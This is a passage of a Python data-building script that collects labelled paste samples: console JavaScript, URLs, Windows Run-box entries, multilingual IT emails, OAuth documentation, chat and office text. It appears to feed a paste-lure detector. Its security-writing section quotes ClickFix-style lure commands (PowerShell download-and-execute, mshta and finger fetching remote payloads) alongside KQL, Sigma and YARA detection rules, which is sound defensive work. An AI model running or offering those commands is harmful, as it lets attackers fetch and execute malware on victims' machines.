            "https://developer.mozilla.org/en-US/docs/Web/API/URLSearchParams",
            "Object.fromEntries(new URLSearchParams(location.search))",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Array/reduce",
            "[3, 5, 8].reduce((a, b) => a + b, 0)",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/MutationObserver",
            "new MutationObserver(m => console.log(m.length, 'changes')).observe(document.body, {childList: true, subtree: true})",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Document/documentElement",
            "document.documentElement.classList.toggle('dark')",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Window/scrollTo",
            "window.scrollTo({top: document.body.scrollHeight, behavior: 'smooth'})",
        ),
        (
            "https://vuejs.org/guide/scaling-up/tooling.html#browser-devtools",
            "document.querySelector('#app').__vue_app__.config.globalProperties",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Clipboard/writeText",
            "await navigator.clipboard.writeText(location.href)",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Document/forms",
            "[...document.forms[0].elements].map(e => `${e.name}=${e.value}`)",
        ),
    ]
    for page, text in JS:
        add("console-js", CON, page, text)

    # --- URLs pasted into places -------------------------------------------------------------------
    URLS = [
        (
            UNK,
            "https://teams.microsoft.com/",
            "https://teams.microsoft.com/l/meetup-join/19%3ameeting_ZTk2YjA5MzAtNDc4ZS00@thread.v2/0?context=%7b%22Tid%22%3a%2272f988bf%22%7d",
        ),
        (
            UNK,
            "https://zoom.us/",
            "https://us06web.zoom.us/j/84512093371?pwd=bE5xZ0pWbm1aR2hQa0RLT3Vxdz09",
        ),
        (
            UNK,
            "https://www.booking.com/",
            "https://www.booking.com/hotel/it/albergo-centrale-milano.html?checkin=2027-01-14&checkout=2027-01-16&group_adults=2",
        ),
        (
            UNK,
            "https://docs.google.com/",
            "https://docs.google.com/spreadsheets/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit#gid=0",
        ),
        (UNK, "https://github.com/", "https://github.com/python/cpython/pull/124501/files"),
        (
            UNK,
            "https://www.dhl.com/",
            "https://www.dhl.com/de-de/home/tracking/tracking-parcel.html?submit=1&tracking-id=JJD000390007827263",
        ),
        (
            UNK,
            "https://www.amazon.de/",
            "https://www.amazon.de/gp/your-account/order-details?orderID=302-4478812-6612345",
        ),
        (UNK, "https://outlook.office.com/", "https://outlook.office.com/calendar/view/week"),
        (
            UNK,
            "https://contoso.sharepoint.com/",
            "https://contoso.sharepoint.com/sites/Finance/Shared%20Documents/Forms/AllItems.aspx",
        ),
        (UNK, "https://www.youtube.com/", "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s"),
        (
            UNK,
            "https://maps.google.com/",
            "https://www.google.com/maps/place/Brandenburger+Tor/@52.5162746,13.3755153,17z",
        ),
        (
            UNK,
            "https://stackoverflow.com/",
            "https://stackoverflow.com/questions/4114095/how-do-i-revert-a-git-repository-to-a-previous-commit",
        ),
        (
            UNK,
            "https://jira.atlassian.com/",
            "https://acme.atlassian.net/browse/OPS-4821?focusedCommentId=118233",
        ),
        (UNK, "https://www.linkedin.com/", "https://www.linkedin.com/jobs/view/4102938475/"),
        (
            UNK,
            "https://learn.microsoft.com/",
            "https://learn.microsoft.com/en-us/windows/security/threat-protection/windows-defender-smartscreen/",
        ),
        (RUN, None, "https://intranet.contoso.com/hr/holidays"),
        (RUN, None, "https://portal.azure.com/#view/HubsExtension/BrowseResourceGroups"),
        (RUN, None, "https://admin.microsoft.com/Adminportal/Home#/users"),
        (EXP, None, "https://contoso.sharepoint.com/sites/IT/Shared Documents"),
        (RUN, None, "http://192.168.1.1/"),
        (RUN, None, "http://printer-3f.corp.local/"),
        (UNK, "https://calendly.com/", "https://calendly.com/jane-doe-acme/30min"),
        (
            UNK,
            "https://www.figma.com/",
            "https://www.figma.com/design/Fq7k2sX1a9/Checkout-Redesign?node-id=12-340",
        ),
        (UNK, "https://meet.google.com/", "https://meet.google.com/xqa-rbnp-kdz"),
        (UNK, "https://wetransfer.com/", "https://we.tl/t-8aB3cD9eF1"),
    ]
    for target, page, text in URLS:
        add("url", target, page, text)

    # --- Run box and Explorer: how-to pages whose entries are names, paths, shell: and ms-settings:
    RUNHOW = [
        (
            RUN,
            "https://support.microsoft.com/en-us/windows/open-device-manager-a7f2db46-faaf-24f0-8b7b-9e4a5032fc8c",
            "devmgmt.msc",
        ),
        (
            RUN,
            "https://www.howtogeek.com/398138/how-to-open-the-services-app-in-windows/",
            "services.msc",
        ),
        (
            RUN,
            "https://www.tenforums.com/tutorials/3253-open-startup-folder-windows-10-a.html",
            "shell:startup",
        ),
        (
            RUN,
            "https://www.tenforums.com/tutorials/3253-open-startup-folder-windows-10-a.html",
            "shell:common startup",
        ),
        (
            RUN,
            "https://www.elevenforum.com/t/list-of-shell-commands-in-windows-11.1080/",
            "shell:AppsFolder",
        ),
        (
            RUN,
            "https://www.elevenforum.com/t/list-of-shell-commands-in-windows-11.1080/",
            "shell:SendTo",
        ),
        (
            RUN,
            "https://www.elevenforum.com/t/list-of-shell-commands-in-windows-11.1080/",
            "shell:RecycleBinFolder",
        ),
        (
            RUN,
            "https://www.elevenforum.com/t/list-of-shell-commands-in-windows-11.1080/",
            "shell:fonts",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:windowsupdate",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:network-proxy",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:defaultapps",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:privacy-microphone",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:display",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:storagesense",
        ),
        (RUN, "https://www.howtogeek.com/how-to-clear-your-temp-files-in-windows/", "%temp%"),
        (
            RUN,
            "https://support.microsoft.com/en-us/office/locate-the-outlook-data-files-0996ece3-57c6-49bc-977b-0d1892e2aacc",
            "%localappdata%\\Microsoft\\Outlook",
        ),
        (
            RUN,
            "https://support.microsoft.com/en-us/topic/how-to-clear-the-teams-client-cache",
            "%appdata%\\Microsoft\\Teams",
        ),
        (RUN, "https://www.minitool.com/news/open-disk-management.html", "diskmgmt.msc"),
        (RUN, "https://www.windowscentral.com/how-open-event-viewer-windows-10", "eventvwr.msc"),
        (RUN, "https://www.howtogeek.com/how-to-open-the-registry-editor-in-windows/", "regedit"),
        (RUN, "https://www.lifewire.com/how-to-check-windows-version", "winver"),
        (
            RUN,
            "https://support.microsoft.com/en-us/windows/disk-cleanup-in-windows-8a96ff42-5751-39ad-23d6-434b4d5b9a68",
            "cleanmgr",
        ),
        (
            RUN,
            "https://support.microsoft.com/en-us/windows/how-to-use-remote-desktop-5fe128d5-8fb1-7a23-3b8a-41e636865e8c",
            "mstsc",
        ),
        (
            RUN,
            "https://www.tenforums.com/tutorials/87420-open-network-connections-windows-10-a.html",
            "ncpa.cpl",
        ),
        (
            RUN,
            "https://www.tenforums.com/tutorials/6894-open-programs-features-windows-10-a.html",
            "appwiz.cpl",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/troubleshoot/windows-client/performance/use-msinfo32",
            "msinfo32",
        ),
        (RUN, "https://www.howtogeek.com/how-to-open-task-scheduler-in-windows/", "taskschd.msc"),
        (
            RUN,
            "https://www.elevenforum.com/t/open-local-group-policy-editor-in-windows-11.3302/",
            "gpedit.msc",
        ),
        (RUN, "https://www.thewindowsclub.com/open-certificate-manager-windows", "certmgr.msc"),
        (
            RUN,
            "https://support.microsoft.com/en-us/windows/open-the-windows-security-app",
            "windowsdefender:",
        ),
        (
            RUN,
            "https://www.tenforums.com/tutorials/1977-windows-10-hosts-file.html",
            "C:\\Windows\\System32\\drivers\\etc",
        ),
        (
            RUN,
            "https://support.microsoft.com/en-us/office/where-are-my-office-templates",
            "%appdata%\\Microsoft\\Templates",
        ),
        (
            EXP,
            "https://www.howtogeek.com/how-to-find-your-appdata-folder/",
            "%userprofile%\\AppData",
        ),
        (
            EXP,
            "https://support.microsoft.com/en-us/windows/find-your-documents-in-windows",
            "%userprofile%\\Documents",
        ),
        (
            EXP,
            "https://www.elevenforum.com/t/open-shell-folders-in-file-explorer-windows-11.1080/",
            "shell:Downloads",
        ),
        (
            EXP,
            "https://www.elevenforum.com/t/open-shell-folders-in-file-explorer-windows-11.1080/",
            "shell:ThisPCDesktopFolder",
        ),
        (
            EXP,
            "https://www.tenforums.com/tutorials/2600-open-file-explorer-windows-10-a.html",
            "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs",
        ),
        (
            EXP,
            "https://support.microsoft.com/en-us/windows/onedrive-folder-location",
            "%OneDrive%\\Desktop",
        ),
        (
            EXP,
            "https://www.howtogeek.com/how-to-view-hidden-files-windows/",
            "C:\\Users\\Public\\Documents",
        ),
        (EXP, "https://helpdesk.contoso.com/kb/0042-map-the-projects-share", "\\\\fs01\\Projects"),
        (
            EXP,
            "https://helpdesk.contoso.com/kb/0051-scanned-documents",
            "\\\\nas01\\scans\\3rd-floor",
        ),
        (
            EXP,
            "https://www.tenforums.com/tutorials/15997-open-control-panel-windows-10-a.html",
            "Control Panel\\All Control Panel Items\\Credential Manager",
        ),
    ]
    for target, page, text in RUNHOW:
        add("runbox-howto", target, page, text)
    TYPED = [
        (RUN, "notepad"),
        (RUN, "calc"),
        (RUN, "excel"),
        (RUN, "winword"),
        (RUN, "outlook"),
        (RUN, "cmd"),
        (RUN, "powershell"),
        (RUN, "wt"),
        (RUN, "control"),
        (RUN, "snippingtool"),
        (RUN, "C:\\Program Files\\7-Zip\\7zFM.exe"),
        (RUN, "D:\\Scans"),
        (RUN, "\\\\print01"),
        (EXP, "C:\\inetpub\\logs\\LogFiles"),
        (EXP, "D:\\Photos\\2026\\Sommerurlaub"),
        (EXP, "Z:\\Finance\\Month-End\\2026-11"),
    ]
    for target, text in TYPED:
        add("runbox-typed", target, None, text)

    # --- security writing that quotes lures ------------------------------------------------------
    SEC = [
        (
            "https://www.microsoft.com/en-us/security/blog/",
            'The ClickFix technique tricks users into pressing Win+R and pasting a command such as powershell -w h -c "iwr hxxps://example[.]com/x | iex". The page copies the command to the clipboard when the user clicks the fake CAPTCHA.',
        ),
        (
            "https://www.proofpoint.com/us/blog/threat-insight",
            "In this campaign the fake Booking.com page instructed hotel staff to open the Run dialog and paste a mshta command pointing at hxxps://[redacted]/verify.hta. The HTA then dropped AsyncRAT.",
        ),
        (
            "https://unit42.paloaltonetworks.com/",
            'Observed command (defanged): cmd /c "finger gcaptcha@185.xxx.xxx[.]10 | cmd" — finger.exe retrieves a batch script from the attacker\'s finger daemon, which cmd then executes.',
        ),
        (
            "https://www.huntress.com/blog",
            "CrashFix: after the malicious extension crashed the browser, a pop-up told the user to press Win+R, paste the 'repair' command and press Enter. The command copied finger.exe to %TEMP% under a new name before running it.",
        ),
        (
            "https://www.elastic.co/security-labs",
            "Detection idea: alert when explorer.exe spawns powershell.exe, mshta.exe or cmd.exe and the RunMRU key gains a value containing 'http' within five seconds.",
        ),
        (
            "https://redcanary.com/blog/",
            "FileFix variants put the command in the File Explorer address bar and hide it behind a long run of spaces followed by a fake path comment like # C:\\Company\\Shared\\Report.docx.",
        ),
        (
            "https://www.sentinelone.com/labs/",
            "macOS lures ask the user to open Terminal and paste a base64 blob piped to base64 -D | bash. The decoded stage fetches an AppleScript that prompts for the login password.",
        ),
        (
            "https://blog.talosintelligence.com/",
            "Talos observed DNS staging: nslookup queries a TXT record on an attacker-controlled name server and the 'Name:' line of the answer is passed to cmd for execution.",
        ),
        (
            "https://www.pushsecurity.com/blog/",
            "ConsentFix: the victim is asked to copy the localhost URL from the address bar after signing in. That URL carries an OAuth authorization code, which the attacker redeems for tokens.",
        ),
        (
            "https://www.volexity.com/blog/",
            "Device code phishing: the attacker starts the device authorization flow and sends the victim a user code with the message to enter it at microsoft.com/devicelogin. Once entered, the attacker's session receives tokens.",
        ),
        (
            "https://intranet.contoso.com/security/awareness/clickfix",
            "Security reminder: no website will ever ask you to press Windows+R, paste something and press Enter. If a CAPTCHA asks you to do this, close the tab and report it to security@contoso.com.",
        ),
        (
            "https://intranet.contoso.com/security/awareness/mac",
            "Mac users: a 'verification' page that asks you to open Terminal and paste a command is an attack. Apple and Google never ask for this. Close the page and call the IT service desk on ext. 4455.",
        ),
        (
            "https://learn.microsoft.com/en-us/defender-xdr/advanced-hunting-overview",
            'DeviceProcessEvents\n| where InitiatingProcessFileName =~ "explorer.exe"\n| where FileName in~ ("powershell.exe", "mshta.exe", "cmd.exe")\n| where ProcessCommandLine has_any ("iwr", "irm", "http", "finger", "nslookup")\n| project Timestamp, DeviceName, AccountName, ProcessCommandLine',
        ),
        (
            "https://learn.microsoft.com/en-us/defender-xdr/advanced-hunting-overview",
            'DeviceRegistryEvents\n| where RegistryKey has @"\\Explorer\\RunMRU"\n| where RegistryValueData has_any ("powershell", "mshta", "curl", "verify", "robot")\n| project Timestamp, DeviceName, RegistryValueData',
        ),
        (
            "https://github.com/SigmaHQ/sigma",
            "title: Suspicious RunMRU Entry With Verification Lure\nlogsource:\n  product: windows\n  category: registry_set\ndetection:\n  selection:\n    TargetObject|contains: '\\Explorer\\RunMRU\\'\n    Details|contains:\n      - 'not a robot'\n      - 'Verification ID'\n      - 'Ray ID'\n  condition: selection\nlevel: high",
        ),
        (
            "https://docs.splunk.com/Documentation/Splunk/latest/SearchReference/Search",
            'index=edr process_name=mshta.exe parent_process_name=explorer.exe (cmdline="*http*" OR cmdline="*.hta*") | stats count by host, user, cmdline',
        ),
        (
            "https://falcon.crowdstrike.com/documentation",
            "#event_simpleName=ProcessRollup2 ImageFileName=/\\\\nslookup\\.exe$/i\n| CommandLine=/-q(uerytype)?=txt/i\n| groupBy([ComputerName, CommandLine])",
        ),
        (
            "https://virustotal.github.io/yara/",
            'rule ClickFix_Clipboard_Lure_Page {\n  strings:\n    $a = "navigator.clipboard.writeText" ascii\n    $b = "Win+R" ascii nocase\n    $c = "I am not a robot" ascii nocase\n  condition:\n    all of them\n}',
        ),
        (
            "https://www.cisa.gov/news-events/cybersecurity-advisories",
            "Mitigations: disable the Run dialog for standard users where feasible, restrict mshta.exe and finger.exe with WDAC/AppLocker, and monitor for PowerShell launched with -w hidden and a download cradle (IEX / Invoke-RestMethod).",
        ),
        (
            "https://attack.mitre.org/techniques/T1204/004/",
            "T1204.004 Malicious Copy and Paste: adversaries may rely on a user copying and pasting code in order to gain execution. Users may be tricked into pasting a command into the Run dialog, a terminal or PowerShell.",
        ),
        (
            "https://lolbas-project.github.io/lolbas/Binaries/Mshta/",
            "mshta.exe http://webserver/payload.hta\nUse case: Execute code from a remote HTA file. ATT&CK: T1218.005",
        ),
        (
            "https://www.reddit.com/r/sysadmin/",
            "PSA: we had three users this week hit a fake Cloudflare check that told them to Win+R and paste. Blocked by ASR, but check your RunMRU keys. Command was powershell with -w hidden and irm to a .shop domain.",
        ),
        (
            "https://www.bleepingcomputer.com/",
            "The attackers' page shows a fake 'Verify you are human' box; clicking it silently copies a malicious PowerShell command and displays steps: press Windows + R, press CTRL + V, press Enter.",
        ),
        (
            "https://jira.contoso.com/browse/SEC-2211",
            "IR note 07/12: user pasted lure into Run box at 09:41. Command: mshta hxxps://verify-cdn[.]shop/c.hta. Host isolated 09:58, HTA retrieved from proxy logs, no second stage observed. Reimage scheduled.",
        ),
        (
            "https://www.malwarebytes.com/blog",
            "Infiniti Stealer is delivered through a ClickFix page for macOS: the user pastes a curl command into Terminal, which downloads a Nuitka-compiled binary and asks for the password in a fake system dialog.",
        ),
        (
            "https://www.esentire.com/blog",
            "KongTuke injected script on compromised WordPress sites shows a fake CAPTCHA; the clipboard payload is a PowerShell one-liner that pulls the next stage with Invoke-RestMethod.",
        ),
        (
            "https://www.zscaler.com/blogs/security-research",
            "Cache smuggling: the lure page makes the browser cache a fake image that is really a ZIP; the pasted PowerShell searches the Chrome cache directory for the marker and extracts the archive.",
        ),
        (
            "https://detection.fyi/",
            "- Parent: explorer.exe\n- Child: conhost.exe --headless powershell.exe\n- Network: outbound to newly registered domain within 10s\nVerdict: likely ClickFix execution, escalate to IR",
        ),
        (
            "https://www.ncsc.gov.uk/guidance/phishing",
            "If you are asked to copy and paste text into your computer to 'prove you are human' or to 'fix' an error, stop. This is a scam. Report it to your IT team or forward suspicious emails to report@phishing.gov.uk.",
        ),
        (
            "https://www.bsi.bund.de/DE/Themen/Verbraucherinnen-und-Verbraucher/Cyber-Sicherheitslage/Methoden-der-Cyber-Kriminalitaet/Spam-Phishing-Co/spam-phishing-co_node.html",
            "Achtung: Gefälschte Captcha-Seiten fordern Sie auf, Windows+R zu drücken und einen Befehl einzufügen. Führen Sie niemals Befehle aus, die Ihnen eine Webseite vorgibt.",
        ),
    ]
    for page, text in SEC:
        add("security-writing", UNK, page, text)

    # --- genuine support / IT mails with phone numbers, many languages ----------------------------
    SUP = [
        (
            "https://mail.contoso.com/",
            "Hi Anna, your ticket INC0045521 (VPN drops every 30 min) has been assigned to Network Support. If it happens again before we call you, please ring the Service Desk on +44 20 7946 0321 and quote the ticket number.",
        ),
        (
            "https://mail.contoso.com/",
            "Hallo Herr Becker, Ihr neuer Laptop ist abholbereit (Raum 2.14). Bei Fragen erreichen Sie den IT-Service unter 0711 555 2300 (Mo–Fr 8–17 Uhr). Viele Grüße, IT-Team",
        ),
        (
            "https://mail.contoso.com/",
            "Bonjour Claire, votre demande n° REQ-2211 (accès au dossier Compta) a été traitée. Pour toute question, contactez le support informatique au 01 55 50 23 11 (poste 4411).",
        ),
        (
            "https://mail.contoso.com/",
            "Hola Marta, hemos recibido su incidencia #88102 (impresora de la 3ª planta). Un técnico pasará mañana entre las 10 y las 12. Teléfono del servicio técnico: 910 555 876.",
        ),
        (
            "https://mail.contoso.com/",
            "Ciao Luca, la tua richiesta di reset password è stata completata. Se non l'hai richiesta tu, chiama subito l'helpdesk interno al 02 555 1200.",
        ),
        (
            "https://mail.contoso.com/",
            "Olá João, a sua conta foi desbloqueada. Recomendamos alterar a palavra-passe no próximo início de sessão. Dúvidas: Service Desk 21 555 3344.",
        ),
        (
            "https://mail.contoso.com/",
            "Beste Sanne, je nieuwe telefoon staat klaar bij de receptie. Voor het instellen van MFA kun je de servicedesk bellen op 020 555 6677, toestel 210.",
        ),
        (
            "https://mail.contoso.com/",
            "Dzień dobry Panie Tomaszu, zgłoszenie nr 4512 (brak dostępu do SAP) zostało rozwiązane. W razie problemów prosimy o kontakt z helpdeskiem: 22 555 44 10.",
        ),
        (
            "https://mail.contoso.com/",
            "Merhaba Ayşe Hanım, dizüstü bilgisayarınızın bakımı tamamlandı. Sorularınız için BT destek hattı: 0212 555 34 56 (dahili 12).",
        ),
        (
            "https://mail.contoso.com/",
            "Здравствуйте, Ирина! Ваша заявка № 7731 (доступ к общей папке) выполнена. Если возникнут вопросы, звоните в ИТ-поддержку: +7 495 555-12-34, доб. 220.",
        ),
        (
            "https://mail.contoso.com/",
            "山田様 ご依頼のノートPCのセットアップが完了しました。受け取りは3階ITカウンターまでお越しください。お問い合わせ：ITヘルプデスク 03-5550-2231（内線 412）",
        ),
        (
            "https://mail.contoso.com/",
            "王先生您好，您申请的VPN账号已开通，初始密码已通过短信发送。如有问题请致电IT服务台：010-5550-8800 转 6。",
        ),
        (
            "https://mail.contoso.com/",
            "مرحبًا أحمد، تم حل طلبك رقم 4410 الخاص بالبريد الإلكتروني. للاستفسار يرجى الاتصال بمكتب الدعم الفني على الرقم 04 555 7788 تحويلة 15.",
        ),
        (
            "https://mail.contoso.com/",
            "Hej Erik! Din nya dator är klar att hämtas i receptionen. Frågor? Ring IT-supporten på 08-555 123 45.",
        ),
        (
            "https://support.apple.com/en-us/118564",
            "Apple Support: you can reach us at 1-800-275-2273 (1-800-APL-CARE) in the US. Hours vary by country. You can also start a chat or schedule a call on getsupport.apple.com.",
        ),
        (
            "https://support.microsoft.com/en-us/topic/global-customer-service-phone-numbers",
            "Microsoft Store sales and support: United States 1-877-696-7786. Business support for Microsoft 365 admins is available from the admin center under Support > New service request.",
        ),
        (
            "https://www.dell.com/support/contents/en-us/article/product-support/self-support-knowledgebase/contact-support",
            "Dell Technical Support: have your Service Tag ready. Call 1-800-624-9896, or use SupportAssist to open a case online. Please note Dell will never call you unsolicited about a virus.",
        ),
        (
            "https://support.hp.com/us-en/contact",
            "HP Customer Support – contact options: chat with a virtual agent, or call 1-800-474-6836. Have your product number and serial number ready.",
        ),
        (
            "https://www.bankofamerica.com/security-center/contact-us/",
            "If you suspect fraud on your account, call us at the number on the back of your card. Bank of America will never ask you for your Online ID, passcode or one-time code over the phone.",
        ),
        (
            "https://www.sparkasse.de/service/sperr-notruf.html",
            "Sperr-Notruf: Bei Verlust Ihrer Karte wählen Sie 116 116 (aus dem Ausland +49 116 116). Die Sparkasse fragt Sie niemals telefonisch nach PIN oder TAN.",
        ),
        (
            "https://www.paypal.com/us/cshelp/contact-us",
            "PayPal customer service: 1-888-221-1161, Monday–Friday 5:00 AM – 9:00 PM PT. PayPal will never ask you to call a number from an unexpected email to cancel a purchase.",
        ),
        (
            "https://www.orange.fr/portail/contact",
            "Service client Orange : composez le 3900 depuis une ligne fixe. Votre conseiller ne vous demandera jamais vos codes d'accès ni d'installer un logiciel de prise en main à distance.",
        ),
        (
            "https://www.vodafone.de/hilfe/kontakt.html",
            "Vodafone Kundenservice: 0800 172 1212 (kostenlos). Halten Sie Ihre Kundennummer und Ihr Kundenkennwort bereit.",
        ),
        (
            "https://www.telefonica.es/es/contacto/",
            "Atención al cliente Movistar: 1004. Recuerde que Movistar nunca le pedirá por teléfono sus contraseñas ni que instale programas.",
        ),
        (
            "https://chat.contoso.com/",
            "Reminder for the offsite: the hotel front desk number is +1 (415) 555-0133, the shuttle leaves at 8:15 from the lobby. Ping me if your flight is delayed!",
        ),
        (
            "https://mail.contoso.com/",
            "Dear customer, your appointment with our technician is confirmed for Thursday 10 Dec between 08:00 and 12:00. To reschedule, call 0345 555 0199 or reply to this email. Please do not share passwords with anyone.",
        ),
        (
            "https://mail.contoso.com/",
            "Hi team, the new conference bridge for the weekly ops call is +1 646 555 0142, PIN 884 221#. Teams link is still in the invite if you prefer that.",
        ),
        (
            "https://mail.contoso.com/",
            "Olá equipe, o número do plantão de TI neste fim de semana é +55 11 5555-0198. Liguem apenas para incidentes críticos (P1).",
        ),
    ]
    for page, text in SUP:
        add("support-mail", UNK, page, text)

    # --- OAuth and device-code documentation ------------------------------------------------------
    OAUTH = [
        (
            "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively",
            "az login --use-device-code",
        ),
        (
            "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively",
            "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code EXAMPLE12 to authenticate.",
        ),
        (
            "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
            "The device code flow is for input-constrained devices. The user visits the verification_uri on another device, enters the user_code, and signs in; the device polls the token endpoint until the user completes authentication.",
        ),
        (
            "https://learn.microsoft.com/en-us/entra/identity/conditional-access/policy-block-authentication-flows",
            "Block device code flow: in Conditional Access, create a policy targeting all users, under Conditions > Authentication flows select Device code flow, and set Grant to Block access.",
        ),
        (
            "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps#device-flow",
            "POST https://github.com/login/device/code\nAccept: application/json\n\nclient_id=Iv1.8a61f9b3a7aba766&scope=repo",
        ),
        (
            "https://cli.github.com/manual/gh_auth_login",
            "gh auth login --hostname github.com --git-protocol https --web",
        ),
        (
            "https://developers.google.com/identity/protocols/oauth2/native-app",
            "The redirect URI for a desktop app can be a loopback address: http://127.0.0.1:port or http://[::1]:port. Your app listens on the port and receives the authorization code in the query string.",
        ),
        (
            "https://oauth.net/2/pkce/",
            "PKCE: the client creates a code_verifier, sends its SHA-256 hash as code_challenge with the authorization request, and later proves possession by sending the code_verifier with the token request.",
        ),
        (
            "https://auth0.com/docs/get-started/applications/application-settings",
            "Allowed Callback URLs: http://localhost:3000/api/auth/callback, https://app.example.com/api/auth/callback",
        ),
        (
            "https://next-auth.js.org/configuration/providers/oauth",
            "NEXTAUTH_URL=http://localhost:3000\nGITHUB_ID=<client id>\nGITHUB_SECRET=<client secret>",
        ),
        (
            "https://cloud.google.com/sdk/gcloud/reference/auth/login",
            "gcloud auth login --no-browser",
        ),
        (
            "https://docs.aws.amazon.com/cli/latest/userguide/sso-configure-profile-token.html",
            "aws sso login --profile dev --use-device-code",
        ),
        ("https://rclone.org/remote_setup/", 'rclone authorize "onedrive"'),
        (
            "https://learn.microsoft.com/en-us/powershell/microsoftgraph/authentication-commands",
            'Connect-MgGraph -UseDeviceCode -Scopes "User.Read"',
        ),
    ]
    for page, text in OAUTH:
        add(
            "oauth-docs",
            TERM if not text[0].isupper() or text.startswith("Connect-") else UNK,
            page,
            text,
        )

    # --- chat messages, office texts, logs, code -------------------------------------------------
    CHAT = [
        "can you send me the link to the Q4 deck? the one from yesterday's call",
        "Heads up: prod deploy at 16:00, freeze on main until then 🙏",
        "lol the build is green again, it was the flaky timezone test",
        "Reminder: expenses for November are due Friday. Receipts into the Finance folder please.",
        "Kannst du mir kurz die Zugangsdaten fürs Testsystem schicken? Am besten per 1Password.",
        "On se retrouve à 14h en salle Everest pour la revue de sprint ?",
        "¿Alguien sabe si la impresora de la segunda planta ya funciona?",
        "I've pushed the fix to feature/login-timeout, can you review when you get a sec?",
        "Restarting the VPN gateway in 5 minutes, expect a short disconnect.",
        "Happy birthday Priya!! 🎂🎉",
        "The client approved the quote, PO number is 4500218834.",
        "Who's on call tonight? PagerDuty says Marco but he's on holiday.",
        "pls don't merge anything into release/2.8 without pinging me first",
        "Lunch at the Thai place at 12:30? I'll book for 6.",
        "Ticket for the flaky CI runner: OPS-4821. I added the logs.",
        "Meeting moved to Thursday 10:00, same Teams link.",
        "the API rate limit is 600/min per token, not per IP",
        "Danke für die schnelle Hilfe gestern mit dem Drucker!",
        "Can someone with admin rights approve my Slack app request?",
        "FYI, the SSL cert for shop.example.org expires on the 14th — renewal is scheduled.",
        "Ik ben morgen thuis, ziek. Meetings graag verzetten.",
        "Quem pode cobrir o plantão de sábado? Troco pelo domingo.",
        "tested on Safari 18 and Firefox 133, both fine now",
        "The new hire starts Monday, laptop and badge are ready.",
        "+1 to rolling back, the error rate doubled after 14:02",
    ]
    for i, text in enumerate(CHAT):
        add(
            "chat-message",
            UNK,
            [
                "https://app.slack.com/client/T024BE7LD",
                "https://teams.microsoft.com/",
                "https://discord.com/channels/@me",
            ][i % 3],
            text,
        )

    OFFICE = [
        (
            "https://outlook.office.com/mail/",
            "Dear Ms. Okafor,\n\nthank you for your application. We would like to invite you to an interview on 15 December at 11:00 at our Berlin office (Friedrichstraße 68). Please confirm by replying to this email.\n\nKind regards,\nHR Team",
        ),
        (
            "https://outlook.office.com/mail/",
            "Hi all,\n\nplease find attached the minutes of today's steering committee. Action items are highlighted in yellow. Next meeting: 12 January.\n\nBest,\nTom",
        ),
        (
            "https://docs.google.com/",
            '=SUMIFS(D:D, A:A, ">="&DATE(2026,11,1), A:A, "<"&DATE(2026,12,1), C:C, "Travel")',
        ),
        (
            "https://support.microsoft.com/en-us/office/xlookup-function-b7fd680e-6d10-43e6-84f9-88eae8bf5929",
            '=XLOOKUP(A2, Products!A:A, Products!C:C, "not found")',
        ),
        (
            "https://support.microsoft.com/en-us/office/",
            "=IFERROR(VLOOKUP($B4,'Price list'!$A$2:$D$500,4,FALSE),0)",
        ),
        (
            "https://www.google.com/maps/",
            "Acme GmbH\nz. Hd. Frau Schulz\nHauptstraße 12\n70173 Stuttgart\nDeutschland",
        ),
        (
            "https://outlook.office.com/mail/",
            "Bonjour Madame Lefèvre,\n\nveuillez trouver ci-joint la facture n° F-2026-0418 d'un montant de 1 240,00 € TTC, payable à 30 jours.\n\nCordialement,\nService comptabilité",
        ),
        (
            "https://docs.google.com/document/",
            "Agenda – Q1 planning\n1. Review of 2026 OKRs\n2. Hiring plan (2 backend, 1 designer)\n3. Budget for the trade fair in Hannover\n4. AOB",
        ),
        (
            "https://www.deepl.com/translator",
            "Wir freuen uns, Ihnen mitteilen zu können, dass Ihre Bestellung versandt wurde. Die Sendungsnummer finden Sie in Ihrem Kundenkonto.",
        ),
        (
            "https://outlook.office.com/calendar/",
            "Out of office: I am away until 5 January with limited access to email. For urgent matters please contact Sarah Kim (sarah.kim@contoso.com).",
        ),
        (
            "https://www.notion.so/",
            "## Onboarding checklist\n- [ ] Laptop handed over\n- [ ] Accounts: Google, Slack, Jira\n- [ ] Security training completed\n- [ ] Buddy assigned",
        ),
        (
            "https://mail.google.com/",
            "IBAN: DE89 3704 0044 0532 0130 00\nBIC: COBADEFFXXX\nVerwendungszweck: Rechnung 2026-118",
        ),
        (
            "https://docs.google.com/",
            "Thanks everyone for a great year! The holiday party is on 18 December from 18:00 at the Rooftop Bar. Partners welcome, please RSVP by the 10th.",
        ),
        (
            "https://www.linkedin.com/",
            "I'm happy to share that I'm starting a new position as Site Reliability Engineer at Acme Corp!",
        ),
        (
            "https://docs.google.com/spreadsheets/",
            "Name\tDepartment\tStart date\nAnna Berg\tFinance\t2027-01-04\nLeo Marsh\tEngineering\t2027-01-11",
        ),
        (
